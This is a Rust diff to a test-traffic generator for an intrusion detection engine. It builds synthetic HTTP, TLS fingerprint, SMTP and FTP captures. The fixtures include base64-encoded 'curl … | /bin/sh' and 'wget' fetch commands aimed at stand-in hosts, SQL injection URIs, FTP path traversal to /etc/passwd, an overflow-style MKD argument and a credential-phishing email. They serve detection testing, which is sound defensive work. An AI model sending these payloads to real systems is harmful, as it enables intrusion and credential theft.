@@ -22,6 +22,7 @@ use eastwall_ids::{
     Rule, parse_rules,
     rule::{Buffer, MatchItem},
 };
+use eastwall_wire::sniff::ClientHello;
 use etherparse::PacketBuilder;
 use pcap_file::pcap::{PcapPacket, PcapWriter};
 use std::net::Ipv4Addr;
@@ -228,7 +229,27 @@ fn web_exchanges() -> Vec<(Vec<u8>, Vec<u8>)> {
         b"<h1>Not Found</h1>",
     );
     let ua = [("User-Agent", UA), ("Accept", "*/*")];
-    vec![
+    let form = [("Content-Type", "application/x-www-form-urlencoded")];
+    // Base64 payloads: padded, in the URI, and unpadded at the end or before `&`.
+    let base64_posts = [
+        "data=Y3VybCBodHRwOi8vMjAzLjAuMTEzLjkveCB8IC9iaW4vc2g=",
+        "x=cnVuIGV2aWwhIQ",
+        "x=cnVuIGV2aWwhIQ&y=1",
+    ];
+    let mut exchanges: Vec<(Vec<u8>, Vec<u8>)> = base64_posts
+        .iter()
+        .map(|body| (request("POST", "/submit", &form, body.as_bytes()), ok("ok")))
+        .collect();
+    exchanges.push((
+        request(
+            "GET",
+            "/search?q=d2dldCBodHRwOi8vZXZpbC5leGFtcGxlLw==",
+            &ua,
+            b"",
+        ),
+        ok("none"),
+    ));
+    exchanges.extend(vec![
         // SQL injection.
         (request("GET", "/products.php?id=1%27%20UNION%20SELECT%20username,password%20FROM%20users--%20-", &ua, b""), ok("<table></table>")),
         (request("GET", "/item.php?id=-1+UNION+ALL+SELECT+NULL,NULL,CONCAT(0x7170767071,user(),0x71766b7071)--+", &ua, b""), ok("qpvpq root@localhost qvkq")),
@@ -284,7 +305,8 @@ fn web_exchanges() -> Vec<(Vec<u8>, Vec<u8>)> {
         (request("GET", "/index.html", &ua, b""), ok("<html><body>Welcome</body></html>")),
         (request("GET", "/api/v1/orders?limit=10&offset=20", &[("User-Agent", UA), ("Accept", "application/json")], b""), response("200 OK", &[("Content-Type", "application/json")], b"{\"orders\":[]}")),
         (request("POST", "/api/v1/orders", &[("User-Agent", UA), ("Content-Type", "application/json")], b"{\"item\":42,\"qty\":1}"), response("201 Created", &[("Content-Type", "application/json"), ("Location", "/api/v1/orders/7")], b"{\"id\":7}")),
-    ]
+    ]);
+    exchanges
 }
 
 /// Hand-written rules' traffic (see `local.rules`): raw TCP both ways.
@@ -507,11 +529,53 @@ fn certificate(cn: &str, org: &str, serial: &[u8]) -> Vec<u8> {
 
 /// A TLS 1.2 server's first flight: ServerHello, Certificate with `certs`, ServerHelloDone.
 fn server_flight(certs: &[Vec<u8>], seed: u8) -> Vec<u8> {
-    let mut hello = vec![0x03, 0x03];
+    server_flight_of(0x0303, 0xc02f, &[(0xff01, vec![0])], certs, seed)
+}
+
+/// A server's first flight: ServerHello of `version` choosing `cipher`, with `extensions`;
+/// then, with certificates, Certificate and ServerHelloDone, else (TLS 1.3) a
+/// ChangeCipherSpec and an encrypted record.
+fn server_flight_of(
+    version: u16,
+    cipher: u16,
+    extensions: &[(u16, Vec<u8>)],
+    certs: &[Vec<u8>],
+    seed: u8,
+) -> Vec<u8> {
+    let mut hello = version.to_be_bytes().to_vec();
     hello.extend((0..32u8).map(|i| i.wrapping_mul(13).wrapping_add(seed)));
     hello.push(0);
-    hello.extend_from_slice(&[0xc0, 0x2f, 0x00]);
-    hello.extend_from_slice(&[0x00, 0x05, 0xff, 0x01, 0x00, 0x01, 0x00]);
+    hello.extend_from_slice(&cipher.to_be_bytes());
+    hello.push(0);
+    let mut exts = Vec::new();
+    for (kind, data) in extensions {
+        exts.extend_from_slice(&kind.to_be_bytes());
+        exts.extend_from_slice(&(data.len() as u16).to_be_bytes());
+        exts.extend_from_slice(data);
+    }
+    if !extensions.is_empty() {
+        hello.extend_from_slice(&(exts.len() as u16).to_be_bytes());
+        hello.extend(exts);
+    }
+    let record_version = version.min(0x0303).to_be_bytes();
+    let record = |out: &mut Vec<u8>, kind: u8, msg: &[u8]| {
+        out.extend_from_slice(&[kind, record_version[0], record_version[1]]);
+        out.extend_from_slice(&(msg.len() as u16).to_be_bytes());
+        out.extend_from_slice(msg);
+    };
+    let message = |kind: u8, body: &[u8]| {
+        let mut msg = vec![kind];
+        msg.extend_from_slice(&(body.len() as u32).to_be_bytes()[1..]);
+        msg.extend_from_slice(body);
+        msg
+    };
+    let mut out = Vec::new();
+    record(&mut out, 22, &message(2, &hello));
+    if certs.is_empty() {
+        record(&mut out, 20, &[1]);
+        record(&mut out, 23, &[0x33; 64]);
+        return out;
+    }
     let mut list = Vec::new();
     for c in certs {
         list.extend_from_slice(&(c.len() as u32).to_be_bytes()[1..]);
@@ -519,16 +583,101 @@ fn server_flight(certs: &[Vec<u8>], seed: u8) -> Vec<u8> {
     }
     let mut cert_body = (list.len() as u32).to_be_bytes()[1..].to_vec();
     cert_body.extend(list);
-    let mut out = Vec::new();
-    for (kind, body) in [(2u8, hello), (11, cert_body), (14, Vec::new())] {
-        let mut msg = vec![kind];
-        msg.extend_from_slice(&(body.len() as u32).to_be_bytes()[1..]);
-        msg.extend(body);
-        out.extend_from_slice(&[0x16, 0x03, 0x03]);
-        out.extend_from_slice(&(msg.len() as u16).to_be_bytes());
-        out.extend(msg);
-    }
+    record(&mut out, 22, &message(11, &cert_body));
+    record(&mut out, 22, &message(14, &[]));
     out
+}
+
+/// Clients of several shapes for the fingerprint rules: Chrome with GREASE (the JA4
+/// example), Firefox, an old TLS 1.0 client without extensions, and one without SNI; each
+/// with its server: TLS 1.3, 1.2 with the JA3S example's extensions, 1.0, 1.2.
+fn fingerprint_conversations(cert: &[u8]) -> Vec<(ClientHello, Vec<u8>)> {
+    let chrome = ClientHello {
+        legacy_version: 0x0303,
+        supported_versions: vec![0x2a2a, 0x0304, 0x0303],
+        sni: Some("example.com".into()),
+        alpn: vec!["h2".into(), "http/1.1".into()],
+        cipher_suites: vec![
+            0x0a0a, 0x1301, 0x1302, 0x1303, 0xc02b, 0xc02f, 0xc02c, 0xc030, 0xcca9, 0xcca8, 0xc013,
+            0xc014, 0x009c, 0x009d, 0x002f, 0x0035,
+        ],
+        extensions: vec![
+            0x1a1a, 0x0000, 0x0017, 0xff01, 0x000a, 0x000b, 0x0023, 0x0010, 0x0005, 0x000d, 0x0012,
+            0x0033, 0x002d, 0x002b, 0x001b, 0x4469, 0x0015, 0x3a3a,
+        ],
+        supported_groups: vec![0x4a4a, 0x001d, 0x0017, 0x0018],
+        signature_algorithms: vec![
+            0x0403, 0x0804, 0x0401, 0x0503, 0x0805, 0x0501, 0x0806, 0x0601,
+        ],
+        ec_point_formats: vec![0],
+    };
+    let firefox = ClientHello {
+        legacy_version: 0x0303,
+        supported_versions: vec![0x0304, 0x0303],
+        sni: Some("firefox.example".into()),
+        alpn: vec!["h2".into(), "http/1.1".into()],
+        cipher_suites: vec![
+            0x1301, 0x1303, 0x1302, 0xc02b, 0xc02f, 0xcca9, 0xcca8, 0xc02c, 0xc030, 0xc00a, 0xc009,
+            0xc013, 0xc014, 0x009c, 0x009d, 0x002f, 0x0035,
+        ],
+        extensions: vec![0, 23, 65281, 10, 11, 35, 16, 5, 34, 51, 43, 13, 45, 28, 21],
+        supported_groups: vec![29, 23, 24, 25, 256, 257],
+        signature_algorithms: vec![
+            0x0403, 0x0503, 0x0603, 0x0804, 0x0805, 0x0806, 0x0401, 0x0501, 0x0601, 0x0203, 0x0201,
+        ],
+        ec_point_formats: vec![0],
+    };
+    let old = ClientHello {
+        legacy_version: 0x0301,
+        cipher_suites: vec![0x002f, 0x0035, 0x000a],
+        ..ClientHello::default()
+    };
+    let no_sni = ClientHello {
+        legacy_version: 0x0303,
+        alpn: vec!["http/1.1".into()],
+        cipher_suites: vec![0xc02f, 0xc030],
+        extensions: vec![10, 11, 13, 16, 23],
+        supported_groups: vec![29],
+        signature_algorithms: vec![0x0401],
+        ec_point_formats: vec![0],
+        ..ClientHello::default()
+    };
+    let mut key_share = vec![0x00, 0x1d, 0x00, 0x20];
+    key_share.extend([0x42; 32]);
+    let certs = [cert.to_vec()];
+    vec![
+        (
+            chrome,
+            server_flight_of(0x0303, 0x1301, &[(43, vec![3, 4]), (51, key_share)], &[], 1),
+        ),
+        (
+            firefox,
+            server_flight_of(
+                0x0303,
+                0xc02f,
+                &[
+                    (0xff01, vec![0]),
+                    (0, vec![]),
+                    (11, vec![1, 0]),
+                    (35, vec![]),
+                    (23, vec![]),
+                ],
+                &certs,
+                2,
+            ),
+        ),
+        (old, server_flight_of(0x0301, 0x002f, &[], &certs, 3)),
+        (
+            no_sni,
+            server_flight_of(
+                0x0303,
+                0xc030,
+                &[(0xff01, vec![0]), (11, vec![1, 0])],
+                &certs,
+                4,
+            ),
+        ),
+    ]
 }
 
 /// A DNS query for `name`, framed for TCP.
@@ -761,6 +910,108 @@ fn synthesize(rule: &Rule) -> Option<(Vec<u8>, Vec<u8>)> {
     Some((req, resp))
 }
 
+/// A command session (SMTP or FTP): the server's banner, then (client, server) turns.
+type Session = Vec<(bool, Vec<u8>)>;
+
+/// An SMTP session whose mail carries `data` (and, with `extra`, one more client turn
+/// before the mail).
+fn smtp_session(extra: Option<Vec<u8>>, data: &[u8]) -> Session {
+    let mut s: Session = vec![
+        (false, b"220 mail.example ESMTP Postfix\r\n".to_vec()),
+        (true, b"EHLO client.example\r\n".to_vec()),
+        (false, b"250-mail.example\r\n250 8BITMIME\r\n".to_vec()),
+    ];
+    if let Some(e) = extra {
+        s.push((true, e));
+        s.push((false, b"250 OK\r\n".to_vec()));
+    }
+    s.extend([
+        (true, b"MAIL FROM:<alice@client.example>\r\n".to_vec()),
+        (false, b"250 OK\r\n".to_vec()),
+        (true, b"RCPT TO:<bob@mail.example>\r\n".to_vec()),
+        (false, b"250 OK\r\n".to_vec()),
+        (true, b"DATA\r\n".to_vec()),
+        (false, b"354 End data with <CR><LF>.<CR><LF>\r\n".to_vec()),
+        (true, [data, b"\r\n.\r\n"].concat()),
+        (false, b"250 OK queued\r\n".to_vec()),
+        (true, b"QUIT\r\n".to_vec()),
+        (false, b"221 Bye\r\n".to_vec()),
+    ]);
+    s
+}
+
+/// An FTP control session: login, then `commands` each answered.
+fn ftp_session(commands: &[Vec<u8>], reply: &[u8]) -> Session {
+    let mut s: Session = vec![
+        (false, b"220 FTP server ready\r\n".to_vec()),
+        (true, b"USER anonymous\r\n".to_vec()),
+        (false, b"331 Password required\r\n".to_vec()),
+        (true, b"PASS guest@\r\n".to_vec()),
+        (false, b"230 Logged in\r\n".to_vec()),
+    ];
+    for c in commands {
+        s.push((true, c.clone()));
+        s.push((false, reply.to_vec()));
+    }
+    s
+}
+
+/// Hand-written mail and file-transfer sessions: benign ones and attacks of the kinds
+/// ET's SMTP and FTP rules look for.
+fn command_sessions() -> Vec<(u16, Session)> {
+    let mail = b"From: alice@client.example\r\nTo: bob@mail.example\r\nSubject: report\r\n\r\nSee you tomorrow.".to_vec();
+    let phish = b"From: \"IT desk\" <it@client.example>\r\nSubject: Password expiry\r\nContent-Type: text/html\r\n\r\n<form action=\"http://198.51.100.7/login.php\"><input type=\"password\" name=\"pass\"></form>".to_vec();
+    vec![
+        (25, smtp_session(None, &mail)),
+        (25, smtp_session(None, &phish)),
+        (
+            587,
+            smtp_session(Some(b"AUTH LOGIN YWRtaW4=\r\n".to_vec()), &mail),
+        ),
+        (
+            21,
+            ftp_session(&[b"SYST\r\n".to_vec(), b"LIST\r\n".to_vec()], b"200 OK\r\n"),
+        ),
+        (
+            21,
+            ftp_session(
+                &[
+                    b"CWD ../../../../etc\r\n".to_vec(),
+                    b"RETR passwd\r\n".to_vec(),
+                ],
+                b"550 Denied\r\n",
+            ),
+        ),
+        (
+            2121,
+            ftp_session(
+                &[[b"MKD ".to_vec(), vec![b'A'; 600], b"\r\n".to_vec()].concat()],
+                b"257 Created\r\n",
+            ),
+        ),
+    ]
+}
+
+/// A session for an ET SMTP or FTP rule, from its contents: joined in rule order into the
+/// client's (or, for `to_client` rules, the server's) turn.
+fn synthesize_session(rule: &Rule) -> Option<Session> {
+    let payload = contents(rule, Buffer::Stream).concat();
+    if payload.is_empty() {
+        return None;
+    }
+    let to_client = rule.flow.dir == Some(eastwall_ids::Dir::ToClient);
+    Some(match rule.protocol {
+        eastwall_ids::rule::Protocol::Smtp if to_client => {
+            let mut s = smtp_session(None, b"Subject: x\r\n\r\nbody");
+            s.insert(3, (false, [&payload[..], b"\r\n"].concat()));
+            s
+        }
+        eastwall_ids::rule::Protocol::Smtp => smtp_session(None, &payload),
+        _ if to_client => ftp_session(&[b"LIST\r\n".to_vec()], &[&payload[..], b"\r\n"].concat()),
+        _ => ftp_session(&[[&payload[..], b"\r\n"].concat()], b"200 OK\r\n"),
+    })
+}
+
 fn et_rules(dir: &Path, file: &str) -> Vec<Rule> {
     let Ok(text) = std::fs::read_to_string(dir.join(file)) else {
         return Vec::new();
@@ -960,6 +1211,48 @@ fn main() -> std::io::Result<()> {
         }
     }
 
+    // SMTP and FTP sessions: hand-written ones, whole and in tiny segments, and with the ET
+    // snapshot one per ET SMTP or FTP rule built from its contents.
+    let mut p = Pcap::new();
+    let mut sessions: Vec<(u16, Session, &[usize])> = Vec::new();
+    for sizes in [WHOLE, TINY] {
+        for (port, session) in command_sessions() {
+            sessions.push((port, session, sizes));
+        }
+    }
+    if let Some(et) = &et {
+        let mut rules: Vec<Rule> = Vec::new();
+        for file in std::fs::read_dir(et)?.flatten() {
+            let text = std::fs::read_to_string(file.path())?;
+            let name = file.file_name().to_string_lossy().into_owned();
+            rules.extend(parse_rules(&name, &text).rules.into_iter().filter(|r| {
+                matches!(
+                    r.protocol,
+                    eastwall_ids::rule::Protocol::Smtp | eastwall_ids::rule::Protocol::Ftp
+                )
+            }));
+        }
+        rules.sort_by_key(|r| r.sid);
+        for r in &rules {
+            if let Some(session) = synthesize_session(r) {
+                let port = if r.protocol == eastwall_ids::rule::Protocol::Smtp {
+                    25
+                } else {
+                    21
+                };
+                sessions.push((port, session, WHOLE));
+            }
+        }
+    }
+    for (port, session, sizes) in sessions {
+        let mut c = p.conv(&mut ports, port);
+        for (from_client, data) in session {
+            c.send(from_client, &data, sizes);
+        }
+        c.close();
+    }
+    p.write(&out.join("smtp_ftp.pcap"))?;
+
     // Server certificates: a known-bad leaf with its issuer, and a benign one; whole and
     // in tiny segments.
     let mut p = Pcap::new();
@@ -982,6 +1275,19 @@ fn main() -> std::io::Result<()> {
         c.close();
     }
     p.write(&out.join("tls_certs.pcap"))?;
+
+    // Fingerprints and versions: each conversation whole and in tiny segments.
+    let mut p = Pcap::new();
+    let cert = certificate("fingerprint.example", "Fingerprint Org", &[0x77]);
+    for sizes in [WHOLE, TINY] {
+        for (hello, flight) in fingerprint_conversations(&cert) {
+            let mut c = p.conv(&mut ports, 443);
+            c.send(true, &hello.to_record(), sizes);
+            c.send(false, &flight, sizes);
+            c.close();
+        }
+    }
+    p.write(&out.join("tls_fingerprints.pcap"))?;
 
     // Compressed bodies, whole and in tiny segments.
     let mut p = Pcap::new();
